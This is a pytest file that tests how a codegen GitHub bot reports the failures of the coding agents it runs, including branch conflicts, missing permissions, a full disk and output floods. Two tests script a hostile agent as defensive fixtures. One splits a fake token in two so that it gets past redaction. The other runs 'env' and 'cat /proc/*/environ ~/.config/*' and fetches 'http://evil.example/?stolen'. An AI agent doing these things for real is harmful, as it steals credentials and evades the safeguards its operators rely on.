"""What goes wrong with agents of one's own: each run ends with a sentence that says what to do, and costs no other."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import AsyncIterator, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot

from bot.agents.config import AgentsConfig
from bot.emulators.github.model import REPOSITORY
from tests.harness.agents_world import AgentsWorld, agents_world_at, program, script, scripted
from tests.harness.server import SECRET

EDIT = {"edit": "app/checkout.py", "append": "# Edited.\n"}
DONE = {"say": "Done."}


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[AgentsWorld]:
    async with agents_world_at(tmp_path) as world:
        yield world


async def replied(world: AgentsWorld, text: str, *, number: int = 1) -> str:
    await world.comment("bob", f"/codegen run {text}", number=number)
    return await world.final(number=number)


async def test_secret_in_the_change(world: AgentsWorld) -> None:
    secret = "ghp_" + "9aB3xKq7LmZ2Wv5RtY8c" * 2
    # The bot redacts what people write, too: so the agent puts the secret together.
    halves = f"printf \"TOKEN = '%s%s'\\n\" {secret[:20]} {secret[20:]} >> app/checkout.py"

    reply = await replied(world, f"fix it{script({'run': halves}, DONE)}")

    assert reply == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

Nothing was pushed: line 4 of app/checkout.py looks like a secret. Resume the run and ask to remove it.

The agent's answer:

Done.

<details><summary>The agent's result</summary>

Nothing was pushed: line 4 of app/checkout.py looks like a secret. Resume the run and ask to remove it.

The agent's answer:

Done.

What the agent had done by then:

```diff
diff --git a/app/checkout.py b/app/checkout.py
index c915f40..b61b554 100644
--- a/app/checkout.py
+++ b/app/checkout.py
@@ -1,3 +1,4 @@
 def total(items, tax):
     net = sum(item.price * item.count for item in items)
     return round((net, 2) * (1 + tax), 2)
+TOKEN = '[redacted]'
```

</details>

Pull requests it left: [octo/shop#1](https://github.com/octo/shop/pull/1).

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")
    assert secret not in reply
    assert "TOKEN" not in (await world.files("fix-checkout"))["app/checkout.py"]


async def test_protected_branch(world: AgentsWorld) -> None:
    """The changes get a branch and a pull request of their own."""
    world.github.protect("fix-checkout")

    assert await replied(world, f"fix it{script(EDIT, DONE)}") == snapshot("""\
Finished in 0 s: [run 1](SERVER/#/runs/1), with [octo/shop#1](https://github.com/octo/shop/pull/1) and [octo/shop#3](https://github.com/octo/shop/pull/3). The agent `scripted` changed +2 −1 in 1 file.

Done.

A rule protects the branch fix-checkout from the bot's push, so the changes are on a branch of their own.

A follow-up: `/codegen resume 1 <what to do next>`\
""")
    assert world.pull_request(3).base_branch == "fix-checkout"


async def test_push_meanwhile(world: AgentsWorld) -> None:
    """The change is replayed on what people pushed."""
    wait = {"run": "echo ready; until [ -e go ]; do sleep 0.05; done; rm go"}
    await world.comment("bob", f"/codegen run fix it{script(EDIT, wait, DONE)}")
    await world.until_logged("Changed app/checkout.py")
    await world.github.push("alice", "fix-checkout", {"README.md": "# New\n"})
    (world.folder / "runs" / "1" / "worktree" / "go").touch()

    assert "octo/shop#1" in await world.final()
    files = await world.files("fix-checkout")
    assert (files["README.md"], files["app/checkout.py"].endswith("# Edited.\n")) == ("# New\n", True)


@pytest.fixture
async def working(world: AgentsWorld) -> AgentsWorld:
    """A world in which an agent on the pull request has edited a file, and waits for `go_on`."""
    wait = {"run": "until [ -e go ]; do sleep 0.05; done; rm go"}
    await world.comment("bob", f"/codegen run fix it{script(EDIT, wait, DONE)}")
    await world.until_logged("Changed app/checkout.py")
    return world


async def go_on(world: AgentsWorld) -> str:
    """Lets the agent finish, and returns the reply."""
    (world.folder / "runs" / "1" / "worktree" / "go").touch()
    return await world.final()


async def test_conflict_with_a_push_meanwhile(working: AgentsWorld) -> None:
    """The changes get a branch of their own, which has a pull request into the one that people pushed to."""
    await working.github.push("alice", "fix-checkout", {"app/checkout.py": "# Rewritten.\n"})

    assert await go_on(working) == snapshot("""\
Finished in 0 s: [run 1](SERVER/#/runs/1), with [octo/shop#1](https://github.com/octo/shop/pull/1) and [octo/shop#3](https://github.com/octo/shop/pull/3). The agent `scripted` changed +2 −1 in 1 file.

Done.

The changes conflict with what was pushed to fix-checkout meanwhile, so the changes are on a branch of their own.

A follow-up: `/codegen resume 1 <what to do next>`\
""")
    pull_request = working.pull_request(3)
    assert (pull_request.branch, pull_request.base_branch) == snapshot(("codegen-bot/fix-it-1", "fix-checkout"))
    assert (await working.files(pull_request.branch or ""))["app/checkout.py"].endswith("# Edited.\n")
    assert (await working.files("fix-checkout"))["app/checkout.py"] == "# Rewritten.\n"


async def test_forced_push_meanwhile(working: AgentsWorld) -> None:
    """The change is replayed on a branch that was rewritten."""
    git = working.github.git
    alice = ("-c", "user.name=alice", "-c", "user.email=alice@example.com")
    rewritten = await git.run(REPOSITORY, *alice, "commit-tree", "fix-checkout^{tree}", "-m", "Squashed")
    await git.run(REPOSITORY, "update-ref", "refs/heads/fix-checkout", rewritten.decode().strip())
    await working.github.push("alice", "fix-checkout", {"README.md": "# New\n"})

    assert "on a branch of their own" not in await go_on(working)
    files = await working.files("fix-checkout")
    assert (files["README.md"], files["app/checkout.py"].endswith("# Edited.\n")) == ("# New\n", True)


async def test_branch_deleted_meanwhile(working: AgentsWorld) -> None:
    await working.github.git.run(REPOSITORY, "update-ref", "-d", "refs/heads/fix-checkout")

    assert await go_on(working) == snapshot("""\
Finished in 0 s: [run 1](SERVER/#/runs/1), with [octo/shop#1](https://github.com/octo/shop/pull/1) and [octo/shop#3](https://github.com/octo/shop/pull/3). The agent `scripted` changed +2 −1 in 1 file.

Done.

The branch fix-checkout was deleted, so the changes are on a branch of their own.

A follow-up: `/codegen resume 1 <what to do next>`\
""")
    pull_request = working.pull_request(3)
    assert (pull_request.branch, pull_request.base_branch) == snapshot(("codegen-bot/fix-it-1", "main"))
    assert (await working.files(pull_request.branch or ""))["app/checkout.py"].endswith("# Edited.\n")


async def test_worktree_removed_meanwhile(working: AgentsWorld) -> None:
    """The next turn begins anew."""
    run = working.folder / "runs" / "1"
    (run / "worktree").rename(run / "elsewhere")
    (run / "elsewhere" / "go").touch()

    assert await working.final() == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The run's files are gone from the machine that runs the agents. Resume the run.

The agent's answer:

Done.

Pull requests it left: [octo/shop#1](https://github.com/octo/shop/pull/1).

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")

    await working.comment("bob", f"/codegen resume 1 once more{script(EDIT, DONE)}")
    assert (await working.final()).startswith("Finished")
    assert (await working.files("fix-checkout"))["app/checkout.py"].endswith("# Edited.\n")


async def test_push_without_permission(world: AgentsWorld) -> None:
    """The work is in the reply, as a patch."""
    world.github.control.fault(path="/git-receive-pack$", status=403)

    assert await replied(world, f"fix it{script(EDIT, DONE)}", number=2) == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The bot has no permission to do this in the repository. Grant its GitHub App or token write access to contents.

The agent's answer:

Done.

<details><summary>The agent's result</summary>

The bot has no permission to do this in the repository. Grant its GitHub App or token write access to contents.

The agent's answer:

Done.

What the agent had done by then:

```diff
diff --git a/app/checkout.py b/app/checkout.py
index 7121c3e..d2b4602 100644
--- a/app/checkout.py
+++ b/app/checkout.py
@@ -1,3 +1,4 @@
 def total(items, tax):
     net = sum(item.price * item.count for item in items)
     return round(round(net, 2) * (1 + tax), 2)
+# Edited.
```

</details>

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")
    assert [*world.github.world.threads] == [1, 2]


async def test_repository_that_cannot_be_reached(world: AgentsWorld) -> None:
    world.github.control.fault(path="/info/refs", status=503)

    assert await replied(world, f"fix it{script(DONE)}") == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The repository's server cannot be reached. Try again later.

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")


async def test_agent_that_is_not_installed(world: AgentsWorld) -> None:
    missing = program("missing", "no-such-agent")
    assert world.agents is not None
    agents = {each.name: each for each in (scripted(), missing)}
    world.agents = AgentsConfig(agents=agents, default="missing", sandbox=world.agents.sandbox)
    await world.restart_bot()

    assert await replied(world, "fix it") == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The agent missing is not installed where the agents run: there is no program no-such-agent. Correct the agents file.

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")


@pytest.mark.parametrize(
    ("failure", "sentence"),
    [
        (
            {"code": -32000, "message": "Authentication required"},
            "The agent scripted is not logged in. Set `key` of the agent scripted in the agents file.",
        ),
        (
            {"code": 404, "message": "The model gpt-99 does not exist"},
            (
                "The model's API does not know the model (404). Check `model` and `endpoint` of the agent scripted in "
                "the agents file. It said: The model gpt-99 does not exist"
            ),
        ),
    ],
    ids=("not-logged-in", "wrong-model"),
)
async def test_agent_that_fails(world: AgentsWorld, failure: Mapping[str, Any], sentence: str) -> None:
    """The reply says what to do, and the next run is not disturbed."""
    first = await replied(world, f"fix it{script({'fail': failure})}", number=2)

    assert first.splitlines()[0] == "[Run 1](SERVER/#/runs/1) failed after 0 s."
    assert sentence in first.splitlines()
    assert (await replied(world, f"fix it{script(EDIT, DONE)}")).startswith("Finished")


async def test_agent_that_does_nothing(world: AgentsWorld) -> None:
    """No answer and an empty diff."""
    assert await replied(world, f"fix it{script({'think': 'Hm.'})}") == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The agent scripted ended without an answer and without a change. Check its model and endpoint in the agents file, and try again.

Pull requests it left: [octo/shop#1](https://github.com/octo/shop/pull/1).

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")


async def test_unknown_agent_type(world: AgentsWorld) -> None:
    await world.comment("bob", "/codegen run --agent-type robot fix it")

    assert await world.final() == snapshot(
        "There is no agent `robot` here; `--agent-type` is `scripted` or `fixer`. For example: `/codegen run fix the flaky checkout test`"
    )
    assert world.store.run(1) is None


async def test_agent_that_dies(world: AgentsWorld) -> None:
    """What it had done is kept, and another run at the same time is not disturbed."""
    dying = script(EDIT, {"stderr": "out of cheese"}, {"exit": 3})
    await world.comment("bob", f"/codegen run fix it{dying}")
    await world.until_run(1)
    await world.comment("bob", f"/codegen run fix it{script(EDIT, DONE)}", number=2)

    assert await world.final() == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The agent scripted ended with exit status 3 before it answered. Try again, or check its `command` in the agents file. Its last output: out of cheese

<details><summary>The agent's result</summary>

The agent scripted ended with exit status 3 before it answered. Try again, or check its `command` in the agents file. Its last output: out of cheese

What the agent had done by then:

```diff
diff --git a/app/checkout.py b/app/checkout.py
index c915f40..dbb3d2b 100644
--- a/app/checkout.py
+++ b/app/checkout.py
@@ -1,3 +1,4 @@
 def total(items, tax):
     net = sum(item.price * item.count for item in items)
     return round((net, 2) * (1 + tax), 2)
+# Edited.
```

</details>

Pull requests it left: [octo/shop#1](https://github.com/octo/shop/pull/1).

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")
    assert "octo/shop#3" in await world.final(number=2)


async def test_agent_that_looks_for_secrets(world: AgentsWorld) -> None:
    """No token and no key is in its environment or its files, and it reaches no other host: the reply names those."""
    look = {"run": "env; cat /proc/*/environ ~/.config/* 2>&1 | tr '\\0' '\\n'"}
    fetch = {"fetch": "http://evil.example/?stolen"}

    reply = await replied(world, f"fix it{script(look, fetch, DONE)}", number=2)

    assert "evil.example" in reply
    assert "bot-token" not in world.log() + reply
    assert SECRET not in world.log() + reply


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of 24 MB for the agents' files."""
    disk = tmp_path / "agents"
    disk.mkdir()
    mount = shutil.which("mount")
    if mount is None or subprocess.run([mount, "-t", "tmpfs", "-o", "size=24m", "none", disk], check=False).returncode:  # noqa: S603
        pytest.skip("no disk can be mounted here")
    try:
        yield disk
    finally:
        subprocess.run(["umount", "--lazy", disk], check=True)  # noqa: S603, S607


async def test_full_disk(small_disk: Path, world: AgentsWorld) -> None:
    """An agent fills the disk. Its work is kept there, and the run goes on when there is space."""
    fill = {"run": "head -c 100M /dev/zero > big.bin"}

    reply = await replied(world, f"fix it{script(EDIT, fill, DONE)}")

    assert reply == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The disk of the machine that runs the agents is full. Free space there, then resume the run.

The agent's answer:

Done.

Pull requests it left: [octo/shop#1](https://github.com/octo/shop/pull/1).

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")
    (small_disk / "runs" / "1" / "worktree" / "big.bin").unlink()
    await world.comment("bob", f"/codegen resume 1 once more{script(DONE)}")
    assert await world.final() == snapshot("""\
Finished in 0 s: [run 1](SERVER/#/runs/1), with [octo/shop#1](https://github.com/octo/shop/pull/1). The agent `scripted` changed +2 −1 in 1 file.

Done.

A follow-up: `/codegen resume 1 <what to do next>`\
""")
    assert (await world.files("fix-checkout"))["app/checkout.py"].endswith("# Edited.\n")


@pytest.mark.slow
async def test_agent_that_floods(world: AgentsWorld) -> None:
    reply = await replied(world, f"fix it{script({'flood': 150_000_000, 'as': 'line'}, DONE)}", number=2)

    assert reply == snapshot("""\
[Run 1](SERVER/#/runs/1) failed after 0 s.

The agent was stopped because it wrote more than 100 MB of output. See the end of its log, and ask for less output.

Next: see the run's page for details, then continue with `/codegen resume 1 <a hint>`.\
""")
